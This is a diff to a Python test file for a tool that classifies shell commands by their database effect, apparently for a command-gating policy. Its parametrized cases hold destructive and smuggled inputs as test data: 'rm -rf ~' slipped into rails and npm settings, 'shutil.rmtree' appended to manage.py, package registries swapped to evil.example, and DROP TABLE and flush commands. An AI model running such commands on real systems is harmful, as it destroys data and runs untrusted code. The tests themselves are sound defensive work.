@@ -49,7 +49,26 @@ _SEQUELIZE_JSON = (
     '{"development": {"database": "shop_dev", "host": "127.0.0.1", "dialect": "postgres"},'
     ' "production": {"use_env_variable": "DATABASE_URL", "dialect": "postgres"}}'
 )
+# What ``django-admin startproject shop`` writes.
+MANAGE_PY = """#!/usr/bin/env python
+import os
+import sys
+
+
+def main():
+    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "shop.settings")
+    try:
+        from django.core.management import execute_from_command_line
+    except ImportError as exc:
+        raise ImportError("Couldn't import Django.") from exc
+    execute_from_command_line(sys.argv)
+
+
+if __name__ == "__main__":
+    main()
+"""
 FILES = {
+    "/w/manage.py": MANAGE_PY,
     "/w/prisma/schema.prisma": _SCHEMA,
     "/w/config/database.yml": _DATABASE_YML,
     "/w/alembic.ini": _ALEMBIC_INI,
@@ -164,21 +183,41 @@ _LINKED_SB = (
             ("db:postgres/app_test", "db:rails/test"),
         ),
         # Django
-        ("python manage.py flush --noinput", _E.DELETE, (*_ANY, "db:django/*/default")),
-        ("python3 manage.py migrate", _E.UPDATE, (*_ANY, "db:django/*/default")),
-        ("python3 ./manage.py migrate shop zero", _E.DELETE, (*_ANY, "db:django/*/default")),
-        ("python manage.py migrate shop 0003", _E.DELETE, (*_ANY, "db:django/*/default")),
-        ("python manage.py migrate --plan", _E.READ, (*_ANY, "db:django/*/default")),
-        ("python manage.py migrate --fake shop 0003", _E.UPDATE, (*_ANY, "db:django/*/default")),
-        ("python manage.py showmigrations", _E.READ, (*_ANY, "db:django/*/default")),
-        ("python manage.py sqlflush", _E.READ, (*_ANY, "db:django/*/default")),
-        ("python manage.py loaddata users.json", _E.UPDATE, (*_ANY, "db:django/*/default")),
-        ("python manage.py reset_db --noinput", _E.REPLACE, (*_ANY, "db:django/*/default")),
-        ("python manage.py dbshell", _E.UNKNOWN, (*_ANY, "db:django/*/default")),
+        ("python manage.py flush --noinput", _E.DELETE, (*_ANY, "db:django/shop.settings/default")),
+        ("python3 manage.py migrate", _E.UPDATE, (*_ANY, "db:django/shop.settings/default")),
+        (
+            "python3 ./manage.py migrate shop zero",
+            _E.DELETE,
+            (*_ANY, "db:django/shop.settings/default"),
+        ),
+        (
+            "python manage.py migrate shop 0003",
+            _E.DELETE,
+            (*_ANY, "db:django/shop.settings/default"),
+        ),
+        ("python manage.py migrate --plan", _E.READ, (*_ANY, "db:django/shop.settings/default")),
+        (
+            "python manage.py migrate --fake shop 0003",
+            _E.UPDATE,
+            (*_ANY, "db:django/shop.settings/default"),
+        ),
+        ("python manage.py showmigrations", _E.READ, (*_ANY, "db:django/shop.settings/default")),
+        ("python manage.py sqlflush", _E.READ, (*_ANY, "db:django/shop.settings/default")),
+        (
+            "python manage.py loaddata users.json",
+            _E.UPDATE,
+            (*_ANY, "db:django/shop.settings/default"),
+        ),
+        (
+            "python manage.py reset_db --noinput",
+            _E.REPLACE,
+            (*_ANY, "db:django/shop.settings/default"),
+        ),
+        ("python manage.py dbshell", _E.UNKNOWN, (*_ANY, "db:django/shop.settings/default")),
         (
             "python manage.py shell -c 'User.objects.all().delete()'",
             _E.UNKNOWN,
-            (*_ANY, "db:django/*/default"),
+            (*_ANY, "db:django/shop.settings/default"),
         ),
         (
             "django-admin flush --settings=shop.settings.production --database legacy",
@@ -469,7 +508,7 @@ def test_a_verb_not_understood_is_unknown_never_a_read(command: str) -> None:
         ("typeorm query 'DROP TABLE users' -d ds.ts", {"db:*/*/users", "db:typeorm/ds.ts"}),
         (
             "python manage.py dbshell <<< 'DROP TABLE auth_user'",
-            {"db:*/*/auth_user", "db:django/*/default"},
+            {"db:*/*/auth_user", "db:django/shop.settings/default"},
         ),
         ("rails dbconsole -e test < drop.sql", {"db:postgres/app_test/users", "db:rails/test"}),
     ],
@@ -534,6 +573,11 @@ def test_rails_runs_several_tasks_and_names_a_projects_own_task_unknown() -> Non
         "rake -e 'ActiveRecord::Base.connection.drop_table(:users)' db:version",
         "rake -r ./evil.rb db:version",
         "rails console -e production",
+        # rails hands a task's words to rake: -e CODE is rake's --execute there
+        "rails db:version -e 'system(\"rm -rf ~\")'",
+        "rails db:version --execute='File.delete(\"db/production.sqlite3\")'",
+        "rails db:version --require=./evil",
+        "rails db:migrate:status -p 'exit!'",
     ],
 )
 def test_ruby_code_on_the_line_is_unknown(command: str) -> None:
@@ -583,12 +627,10 @@ def test_dot_env_is_not_read() -> None:
 @pytest.mark.parametrize(
     ("manage_py", "expected"),
     [
-        (None, _E.DELETE),  # not at hand: trusted to be Django's
-        (
-            "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'shop.settings')\n"
-            "from django.core.management import execute_from_command_line\n",
-            _E.DELETE,
-        ),
+        (None, _E.UNKNOWN),  # not at hand: a Python program like any other
+        (MANAGE_PY, _E.DELETE),
+        # Django's words, and code of its own after them.
+        (MANAGE_PY + "\nimport shutil\nshutil.rmtree('/srv')\n", _E.UNKNOWN),
         ("import shutil\nshutil.rmtree('/srv')\n", _E.UNKNOWN),  # not Django's
     ],
 )
@@ -674,6 +716,11 @@ def test_runners_judge_a_well_known_cli_as_its_own_command(command: str, kind: E
         "npx @evil/prisma migrate status",
         'npx "$TOOL" migrate status',
         "npx prisma frobnicate",  # routed, not understood: the runner's own judgement
+        # the same swaps, as npm settings set on the line
+        "npm_config_package=evil npx prisma migrate status",
+        "NPM_CONFIG_REGISTRY=https://evil.example npx prisma migrate status",
+        "npm_config_call='rm -rf ~' pnpm exec prisma migrate status",
+        "YARN_NPM_REGISTRY_SERVER=https://evil.example yarn dlx prisma migrate status",
     ],
 )
 def test_runners_stay_unknown_when_the_package_may_be_another(command: str) -> None:
@@ -771,11 +818,10 @@ def test_production_is_told_from_the_names(
 
 def test_a_django_flush_on_protected_production_settings_is_denied(judge_brief: JudgeBrief) -> None:
     command = "python manage.py flush --noinput --settings=shop.settings.production"
-    decision = judge_brief(
-        command, env="dev", files=MemoryFiles({}), policy=protecting("db:django/*prod*")
-    )
+    files = MemoryFiles({"/w/manage.py": MANAGE_PY})
+    decision = judge_brief(command, env="dev", files=files, policy=protecting("db:django/*prod*"))
     assert decision.decision is Verdict.DENY
-    allowed = judge_brief("python manage.py flush --noinput", env="dev", files=MemoryFiles({}))
+    allowed = judge_brief("python manage.py flush --noinput", env="dev", files=files)
     assert allowed.decision is Verdict.ALLOW
 
 
@@ -867,3 +913,101 @@ def test_prisma_config_url_of_code_is_not_guessed() -> None:
 )
 def test_more_spellings(command: str, names: tuple[str, ...]) -> None:
     assert _first(command) == (_E.DELETE, names)
+
+
+def test_a_package_named_in_the_environment_is_not_routed() -> None:
+    found = understand_shell(
+        "npx prisma migrate status",
+        cwd="/w",
+        home="/home/u",
+        env={"npm_config_package": "evil"},
+        files=MemoryFiles(FILES),
+    ).effects
+    assert {e.effect for e in found} == {_E.UNKNOWN}
+
+
+def test_django_dumpdata_to_a_file_writes_it() -> None:
+    found = _effects("python manage.py dumpdata shop --output /w/dump.json")
+    assert [(e.effect, e.resource.names) for e in found] == [
+        (_E.READ, (*_ANY, "db:django/shop.settings/default")),
+        (_E.UPDATE, ("file:/w/dump.json",)),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("command", "files", "kind", "names"),
+    [
+        (
+            "flyway -url=jdbc:postgresql://db/app -cleanOnValidationError=true migrate",
+            {},
+            _E.DELETE,
+            ("db:postgres/app", "db:postgres/app@db"),
+        ),
+        (
+            "FLYWAY_CLEAN_ON_VALIDATION_ERROR=true flyway -url=jdbc:postgresql://db/app validate",
+            {},
+            _E.DELETE,
+            ("db:postgres/app", "db:postgres/app@db"),
+        ),
+        (
+            "flyway -cleanOnValidationError=false -url=jdbc:postgresql://db/app migrate",
+            {},
+            _E.UPDATE,
+            ("db:postgres/app", "db:postgres/app@db"),
+        ),
+        (
+            "flyway migrate",
+            {
+                "/w/flyway.toml": "[flyway]\ncleanOnValidationError = true\n"
+                '[environments.default]\nurl = "jdbc:postgresql://db/app"\n'
+            },
+            _E.DELETE,
+            ("db:postgres/app", "db:postgres/app@db"),
+        ),
+        (
+            "FLYWAY_CONFIG_FILES=conf/prod.conf flyway info",
+            {"/w/conf/prod.conf": "flyway.url=jdbc:postgresql://prod-db/app\n"},
+            _E.READ,
+            ("db:postgres/app", "db:postgres/app@prod-db"),
+        ),
+        (
+            "LIQUIBASE_DEFAULTS_FILE=prod.properties liquibase status",
+            {"/w/prod.properties": "url=jdbc:postgresql://prod-db/app\n"},
+            _E.READ,
+            ("db:postgres/app", "db:postgres/app@prod-db"),
+        ),
+        (
+            "SUPABASE_PROJECT_ID=abcdefgh12 supabase db push --linked",
+            {},
+            _E.UPDATE,
+            (
+                "db:postgres/postgres",
+                "db:postgres/postgres@db.abcdefgh12.supabase.co",
+                "db:supabase/abcdefgh12",
+            ),
+        ),
+        (
+            "supabase db push --dry-run=false --local",
+            {},
+            _E.UPDATE,
+            _LOCAL_SB,
+        ),
+        (
+            "NODE_ENV=development sequelize db:migrate",
+            {"/w/.sequelizerc": "module.exports = { env: process.env.APP_ENV }\n"},
+            _E.UPDATE,
+            ("db:*/*", "db:sequelize/*"),
+        ),
+        (
+            "alembic -n=production upgrade head",
+            {},
+            _E.UPDATE,
+            ("db:*/*", "db:alembic/name=production"),
+        ),
+    ],
+)
+def test_settings_the_tools_read_from_the_environment_and_their_files(
+    command: str, files: dict[str, str], kind: EffectKind, names: tuple[str, ...]
+) -> None:
+    found = understand_shell(command, cwd="/w", home="/home/u", files=MemoryFiles(files)).effects
+    assert [(e.effect, e.resource.names) for e in found] == [(kind, names)]
